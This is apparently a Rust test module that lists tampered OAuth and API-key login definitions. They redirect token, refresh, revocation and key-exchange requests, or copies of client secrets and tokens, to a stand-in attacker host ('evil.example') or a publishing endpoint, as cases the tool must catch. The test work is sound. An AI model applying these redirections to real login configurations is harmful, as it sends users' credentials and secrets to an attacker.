//! Definitions that can be read, and differ from that of the login in where they send what.

use serde_json::{Value, json};

use super::Places;

/// One change to the definition of a login.
pub(super) struct Swap {
    pub(super) what: &'static str,
    pub(super) edit: fn(&mut Value, &Places),
    /// Whether it moves a request to the attacker's server. Then, with the pins of that definition, the secret arrives
    /// there: the negative control.
    pub(super) moves: bool,
}

const fn swap(what: &'static str, edit: fn(&mut Value, &Places)) -> Swap {
    Swap {
        what,
        edit,
        moves: false,
    }
}

const fn moved(what: &'static str, edit: fn(&mut Value, &Places)) -> Swap {
    Swap {
        what,
        edit,
        moves: true,
    }
}

/// Replaces the standard revocation by one of the vendor's own.
fn vendor_revocation(definition: &mut Value, url: &str, more: Value) {
    let oauth = definition["oauth"].as_object_mut().unwrap();
    oauth.remove("revocation_url");
    let mut revocation = more;
    revocation["url"] = json!(url);
    oauth.insert("revocation".to_owned(), revocation);
}

/// After a login by browser.
pub(super) const LOGIN: &[Swap] = &[
    moved("the token endpoint", |d, p| {
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("the token endpoint, at the same origin", |d, p| {
        d["oauth"]["token_url"] = json!(format!("{}/published", p.honest));
    }),
    swap("the token endpoint, with a query", |d, _| {
        d["oauth"]["token_url"] = json!("{base_url}/token?copy_to=https://evil.example");
    }),
    swap("the token endpoint, in another spelling", |d, p| {
        let port = p.evil.rsplit(':').next().unwrap();
        d["oauth"]["token_url"] = json!(format!("http://localhost:{port}/token"));
    }),
    swap("a further parameter of token requests", |d, _| {
        d["oauth"]["token_params"] = json!({"audience": "https://evil.example"});
    }),
    swap("what the base URL is by default", |d, p| {
        d["params"]["base_url"]["default"] = json!(p.evil);
    }),
    moved("the base URL as a literal", |d, p| {
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
        d["env"]["ACME_BASE_URL"] = json!(p.evil);
        d.as_object_mut().unwrap().remove("params");
        d["params"] = json!({"base_url": {"label": "Base URL", "default": p.honest}});
    }),
    moved("the revocation endpoint", |d, p| {
        d["oauth"]["revocation_url"] = json!(format!("{}/revoke", p.evil));
    }),
    swap("the revocation endpoint, at the same origin", |d, p| {
        d["oauth"]["revocation_url"] = json!(format!("{}/published", p.honest));
    }),
    swap("a revocation that names the token in its query", |d, p| {
        let how = json!({"method": "GET", "format": "none", "params": {"t": "{token}"}});
        vendor_revocation(d, &format!("{}/r", p.evil), how);
    }),
    swap("a revocation as JSON with a bearer token", |d, p| {
        let how = json!({"auth": "bearer", "format": "json", "params": {"title": "{token}"}});
        vendor_revocation(d, &format!("{}/r", p.evil), how);
    }),
    swap("a revocation that publishes the client's secret", |d, p| {
        let how = json!({"params": {"note": "{client_secret}"}});
        vendor_revocation(d, &format!("{}/published", p.honest), how);
    }),
    swap("a refresh of the vendor's own", |d, p| {
        let params = json!({"t": "{refresh_token}", "s": "{client_secret}"});
        d["oauth"]["refresh"] = json!({"url": format!("{}/token", p.evil), "params": params});
    }),
    swap("an upgrade of the token", |d, p| {
        let params = json!({"t": "{token}", "s": "{client_secret}"});
        d["oauth"]["upgrade"] = json!({"url": format!("{}/token", p.evil), "params": params});
    }),
    swap("a device endpoint", |d, p| {
        d["oauth"]["device_authorization_url"] = json!(format!("{}/device_authorization", p.evil));
        d["flows"] = json!(["device_code", "authorization_code"]);
    }),
    swap("a registration endpoint", |d, p| {
        d["oauth"]["registration_url"] = json!(format!("{}/register", p.evil));
    }),
    swap("the authorization endpoint", |d, p| {
        d["oauth"]["authorization_url"] = json!(format!("{}/authorize", p.evil));
    }),
    swap("the authorization and the token endpoint", |d, p| {
        d["oauth"]["authorization_url"] = json!(format!("{}/authorize", p.evil));
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
        d["oauth"]["issuer"] = json!(p.evil);
    }),
    swap("the issuer", |d, p| {
        d["oauth"]["issuer"] = json!(p.evil);
    }),
    swap("the issuer, which is to name the endpoints", |d, p| {
        let oauth = d["oauth"].as_object_mut().unwrap();
        for name in ["token_url", "authorization_url", "revocation_url"] {
            oauth.remove(name);
        }
        d["oauth"]["issuer"] = json!(p.evil);
    }),
    swap("how the client authenticates", |d, _| {
        d["oauth"]["client_auth"] = json!("basic");
    }),
    swap("another flow, for the same client", |d, p| {
        d["flows"] = json!(["client_credentials"]);
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("the hosts and who is asked whose login it is", |d, p| {
        let host = p.evil.trim_start_matches("http://");
        d["hosts"] = json!([host]);
        d["whoami"]["url"] = json!(format!("{}/api/me", p.evil));
        d["oauth"]["headers"] = json!({"Authorization": "Bearer {token}"});
    }),
    swap("how the token is put into requests", |d, _| {
        d["oauth"]["query"] = json!({"key": "{token}"});
        d["oauth"]["path"] = json!("/published");
    }),
    swap("the variables of programs", |d, p| {
        d["env"]["ACME_BASE_URL"] = json!(p.evil);
        d["env"]["ACME_API_URL"] = json!(p.evil);
    }),
    swap("an API key where there was a login", |d, p| {
        d["flows"] = json!(["api_key"]);
        let url = format!("{}/login", p.evil);
        d["api_key"] = json!({
            "fields": [{"name": "refresh"}],
            "exchange": {"url": url, "params": {"t": "{refresh}"}, "token_path": "/session/token"},
        });
    }),
];

/// After a client has got a token of its own.
pub(super) const CLIENT: &[Swap] = &[
    moved("the token endpoint", |d, p| {
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("whose account the token is for", |d, _| {
        let params = json!({"account_id": "somebody-else"});
        d["oauth"]["client_credentials"] = json!({"params": params});
    }),
    swap("what the token is for", |d, _| {
        d["oauth"]["token_params"] = json!({"audience": "https://evil.example"});
    }),
    swap("the token endpoint, at the same origin", |d, p| {
        d["oauth"]["token_url"] = json!(format!("{}/published", p.honest));
    }),
    swap("an assertion that anybody might ask for", |d, p| {
        d["oauth"]["client_auth"] = json!("private_key_jwt");
        d["oauth"]["client_env"]
            .as_object_mut()
            .unwrap()
            .remove("client_secret");
        d["oauth"]["assertion"] = json!({"aud": p.evil});
    }),
    moved("the revocation endpoint", |d, p| {
        d["oauth"]["revocation_url"] = json!(format!("{}/revoke", p.evil));
    }),
];

/// After a key was exchanged for a token.
pub(super) const KEY: &[Swap] = &[
    moved("where the key is exchanged", |d, p| {
        d["api_key"]["exchange"]["url"] = json!(format!("{}/login", p.evil));
    }),
    swap("where the key is exchanged, at the same origin", |d, p| {
        d["api_key"]["exchange"]["url"] = json!(format!("{}/published", p.honest));
    }),
    swap("a copy of the key beside it", |d, _| {
        d["api_key"]["exchange"]["params"]["public_note"] = json!("{password}");
    }),
    swap("a copy of the key in the address", |d, _| {
        d["api_key"]["exchange"]["query"] = json!({"note": "{password}"});
    }),
    swap("no exchange, and other hosts", |d, p| {
        d["api_key"].as_object_mut().unwrap().remove("exchange");
        d["api_key"]["headers"] = json!({"X-Key": "{password}"});
        d["env"]
            .as_object_mut()
            .unwrap()
            .remove("ACME_ACCESS_TOKEN");
        d["hosts"] = json!([p.evil.trim_start_matches("http://")]);
        d.as_object_mut().unwrap().remove("whoami");
    }),
    swap("a login by browser in place of the key", |d, p| {
        d["flows"] = json!(["authorization_code"]);
        d["oauth"] = json!({
            "authorization_url": format!("{}/authorize", p.evil),
            "token_url": format!("{}/token", p.evil),
            "revocation_url": format!("{}/revoke", p.evil),
            "public_client": true,
        });
    }),
];

/// After a login whose token was traded and is renewed in a way of the vendor's own.
pub(super) const VENDOR: &[Swap] = &[
    moved("where tokens are renewed", |d, p| {
        d["oauth"]["refresh"]["url"] = json!(format!("{}/token?own", p.evil));
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("where tokens are renewed, and nothing else", |d, p| {
        d["oauth"]["refresh"]["url"] = json!(format!("{}/token?own", p.evil));
    }),
    swap("where tokens are renewed, at the same origin", |d, p| {
        d["oauth"]["refresh"]["url"] = json!(format!("{}/published", p.honest));
    }),
    swap("a copy of the client's secret in a renewal", |d, _| {
        d["oauth"]["refresh"]["params"]["note"] = json!("{client_secret}");
    }),
    swap("a header of a renewal", |d, _| {
        d["oauth"]["refresh"]["headers"] = json!({"X-Note": "{refresh_token}"});
    }),
    swap("a renewal in an address", |d, p| {
        let params = json!({"t": "{token}"});
        let url = format!("{}/r", p.evil);
        d["oauth"]["refresh"] = json!({"method": "GET", "url": url, "params": params});
    }),
    swap("no way of its own, but another endpoint", |d, p| {
        d["oauth"].as_object_mut().unwrap().remove("refresh");
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("what a renewal says besides", |d, p| {
        let url = format!("{}/token", p.evil);
        d["oauth"]["refresh"] = json!({"url": url, "params": {"type": "refresh"}});
    }),
    swap("where the token is traded", |d, p| {
        d["oauth"]["upgrade"]["url"] = json!(format!("{}/token", p.evil));
    }),
    swap("a trade that publishes the client's secret", |d, p| {
        d["oauth"]["upgrade"]["url"] = json!(format!("{}/published", p.honest));
        d["oauth"]["upgrade"]["params"]["note"] = json!("{client_secret}");
    }),
    swap("where the user's name is looked for", |d, p| {
        let host = p.evil.trim_start_matches("http://");
        d["hosts"].as_array_mut().unwrap().push(json!(host));
        d["params"]["user"]["from"] = json!(format!("GET {}/api/me /login", p.evil));
    }),
    swap("a host that is made of the user's name", |d, _| {
        let hosts = d["hosts"].as_array_mut().unwrap();
        hosts.push(json!("{user}.evil.example"));
    }),
    swap("a user's name that is a host", |d, p| {
        let host = p.evil.trim_start_matches("http://");
        d["params"]["user"] = json!({"label": "User", "default": host});
        d["hosts"] = json!(["{user}"]);
        d.as_object_mut().unwrap().remove("whoami");
    }),
    swap("a name in place of the redirect", |d, p| {
        d["oauth"]["redirect"] = json!("https");
        d["oauth"]["redirect_uri"] = json!(format!("{}/callback", p.evil));
    }),
    swap("a client of nobody's", |d, p| {
        d["oauth"]["client_auth"] = json!("none");
        d["oauth"]["anonymous"] = json!(true);
        d["oauth"]["token_url"] = json!(format!("{}/token", p.evil));
    }),
    swap("another secret beside it", |d, _| {
        d["params"]["second"] = json!({"label": "Second", "secret": true, "optional": true});
        let headers = json!({"Authorization": "Bearer {token}", "X-Second": "{second}{client_id}"});
        d["oauth"]["headers"] = headers;
    }),
    moved("a revocation by the refresh token", |d, p| {
        d["oauth"]["revocation_url"] = json!(format!("{}/revoke", p.evil));
    }),
];
